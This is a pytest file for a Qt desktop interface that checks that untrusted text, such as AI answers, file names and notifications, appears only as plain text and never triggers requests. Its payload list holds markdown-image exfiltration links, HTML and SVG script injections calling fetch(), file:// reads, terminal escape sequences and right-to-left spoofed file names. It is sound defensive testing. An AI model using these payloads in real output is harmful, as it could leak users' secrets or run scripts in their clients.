"""What strangers wrote is shown and nothing more: no request, no file, no markup, in every widget that shows text."""

from __future__ import annotations

import ast
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import QMimeData, QObject, QPoint
from PySide6.QtGui import QTextDocument
from PySide6.QtWidgets import QApplication, QSystemTrayIcon, QToolTip, QWidget
from pytestqt.qtbot import QtBot

import ui
from ui.bridge import Bridge
from ui.clean import plain_tip
from ui.codeblock import CodeBlock
from ui.desktop import Tray
from ui.markdown import Code, Markdown
from ui.preview import Preview
from ui.prose import ProseView
from ui.sources import SourceRef
from ui.theme import Look
from ui.widgets import ElidedLabel, Label

# after the probes of garak (web_injection, xss, markdown exfiltration, ansiescape); HOST is a server on this computer
PAYLOADS = [
    "![data](HOST/collect?q=secret)",
    "![data][1]\n\n[1]: HOST/ref?q=secret",
    "[![x](HOST/inner)](HOST/outer)",
    "<img src=HOST/img onerror=fetch('HOST/onerror')>",
    "<img src='HOST/img2' width=1 height=1 style='display:none'>",
    "<script src=HOST/script></script><script>fetch('HOST/fetch')</script>",
    "<svg onload=fetch('HOST/svg')><image href='HOST/svgimage'/></svg>",
    "<iframe src=HOST/iframe></iframe><object data=HOST/object></object><embed src=HOST/embed>",
    "<link rel=stylesheet href=HOST/css><style>@import url(HOST/import); p {background: url(HOST/bg)}</style>",
    "<body background=HOST/body><table background=HOST/table><td background=HOST/td>x</td></table>",
    "<meta http-equiv=refresh content='0;url=HOST/refresh'><base href=HOST/>",
    "<video poster=HOST/poster><source src=HOST/source></video><audio src=HOST/audio></audio>",
    "<a href='javascript:fetch(\"HOST/js\")'>x</a> <form action=HOST/form><input type=image src=HOST/input></form>",
    "```html\n<img src=HOST/fenced>\n```",
    "| a |\n|---|\n| ![x](HOST/cell) |",
    "HOST/bare <HOST/auto>",
    "\x1b]8;;HOST/osc8\x07click\x1b]8;;\x07 \x1b[31mred\x1b[0m \x1b]52;c;ZXZpbA==\x07 \x9b2J",
    "![x](file:///etc/hostname) <img src=file:///etc/hostname> <img src=/etc/hostname>",
    "![x](//evil.example/share/x.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
]


class AtOnce(Bridge):
    """Looks at files while one waits."""

    def fetch(self, owner: QObject, work: Callable[[], Any], done: Callable[[Any], None], **_named: Any) -> Any:
        done(work())


class Watched(ProseView):
    """Counts what its document would like to load."""

    loaded: list[str]

    def loadResource(self, kind: int, name: object) -> object:  # noqa: N802 - Qt's name
        self.loaded.append(str(name))
        return super().loadResource(kind, name)  # type: ignore[arg-type]


def test_no_payload_reaches_the_network_or_the_disk(
    qtbot: QtBot, look: Look, canary: tuple[str, list[str]], tmp_path: Path
) -> None:
    host, asked = canary
    view, plain = Watched(look, Markdown()), Watched(look, Markdown())
    view.loaded, plain.loaded = [], []
    code, label, line = CodeBlock(look), Label(wrap=True), ElidedLabel()
    for widget in (view, plain, code, label, line):
        qtbot.addWidget(widget)
        widget.resize(500, 200)
    for payload in PAYLOADS:
        text = payload.replace("HOST", host)
        view.show_markdown(text)
        plain.show_plain(text)
        code.show_code(Code("html", text, closed=True))
        label.setText(text)
        line.setText(text)
        for widget in (view, plain, code, label, line):
            widget.grab()
    note = tmp_path / "note.md"
    note.write_text("\n\n".join(PAYLOADS).replace("HOST", host))
    source = SourceRef(1, str(note), "note", "line 1", PAYLOADS[0].replace("HOST", host))
    preview = Preview(look, AtOnce(), source)
    qtbot.addWidget(preview)
    assert f"<script src={host}/script>" in preview.shown_text
    preview.grab()
    qtbot.wait(100)
    assert asked == []
    assert view.loaded == plain.loaded == [], "no address became a picture in the first place"


def test_a_file_name_cannot_draw_a_tooltip(qtbot: QtBot, look: Look, canary: tuple[str, list[str]]) -> None:
    host, asked = canary
    name = f"<img src='{host}/tip'><b>invoice</b>\u202efdp.exe"
    widget = ElidedLabel(name)
    qtbot.addWidget(widget)
    widget.resize(30, 20)
    widget.grab()
    QToolTip.showText(QPoint(1, 1), widget.toolTip(), widget)
    qtbot.wait(60)
    assert asked == []
    assert "&lt;b&gt;invoice&lt;/b&gt;fdp.exe" in widget.toolTip()
    QToolTip.hideText()


@pytest.mark.parametrize("text", ["Müller & Sohn\nGarage", "a < b", "plain", "&lt;b&gt;"])
def test_a_tooltip_says_what_it_was_given(qtbot: QtBot, text: str) -> None:
    shown = QWidget()
    qtbot.addWidget(shown)
    tip = plain_tip(text)
    document = QTextDocument()
    document.setHtml(tip) if tip.startswith("<qt>") else document.setPlainText(tip)
    assert document.toPlainText() == text


def test_what_is_copied_or_dragged_from_an_answer_is_plain_text(qtbot: QtBot, look: Look) -> None:
    view = ProseView(look, Markdown())
    qtbot.addWidget(view)
    view.show_markdown("See **this** [page](https://evil.example/?q=secret) \u202e<img src=x>\x1b[31m")
    view.selectAll()
    data: QMimeData = view.createMimeDataFromSelection()
    assert data.formats() == ["text/plain"]
    assert data.text() == "See this page <img src=x>"
    view.copy()
    assert QApplication.clipboard().mimeData().formats() == ["text/plain"]


def test_a_notification_shows_clean_text(qtbot: QtBot, look: Look, monkeypatch: pytest.MonkeyPatch) -> None:
    shown: list[tuple[str, str]] = []
    monkeypatch.setattr(QSystemTrayIcon, "showMessage", lambda _icon, title, text, *_rest: shown.append((title, text)))
    Tray(look.app_icon()).say("Call\u202e Anna\n", "at 9\x1b[31m\U000e0041")
    assert shown == [("Call Anna", "at 9")]


def test_no_desktop_finds_markup_in_a_notification(qtbot: QtBot, look: Look, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its server may show links and pictures; not every one undoes an escape, so signs that look alike stand there."""
    shown: list[tuple[str, str]] = []
    monkeypatch.setattr(QSystemTrayIcon, "showMessage", lambda _icon, title, text, *_rest: shown.append((title, text)))
    invitation = '<img src="http://evil.example/x"> <a href="http://evil.example">Log in</a> &lt;b&gt; R&D'
    Tray(look.app_icon()).say(invitation, invitation)
    (told,) = shown
    assert told[0] == told[1]
    assert not set("<>&") & set(told[1])
    assert "Log in" in told[1] and "evil.example" in told[1]


OWN_WORDS = {
    "in_words(frozenset(may))",
    "title",
    "key",
    "spoken",
    "self._forget_word",
    "explanation",
    "' Click to change it.'",
}
"""What may stand in a tooltip beside fixed words: names of buttons and keys, which are ours."""


def test_every_tooltip_of_foreign_words_is_plain() -> None:
    """Qt shows as rich text whatever looks like it, so text that is not ours goes through ``plain_tip``."""
    found = []
    for file in sorted(Path(ui.__file__).parent.glob("*.py")):
        for node in ast.walk(ast.parse(file.read_text())):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                continue
            if node.func.attr in ("setToolTip", "setWhatsThis", "setStatusTip") and not _is_plain(node.args[0]):
                found.append(f"{file.name}: {ast.unparse(node.args[0])}")
    assert found == []


def _is_plain(text: ast.expr) -> bool:
    match text:
        case ast.Call(func=ast.Name(id="plain_tip")):
            return True
        case ast.JoinedStr(values=parts):
            return all(_is_plain(part) for part in parts)
        case ast.IfExp(body=body, orelse=other):
            return _is_plain(body) and _is_plain(other)
        case ast.FormattedValue(value=value):
            return _is_plain(value)
        case ast.Constant():
            return True
        case _:
            return ast.unparse(text) in OWN_WORDS
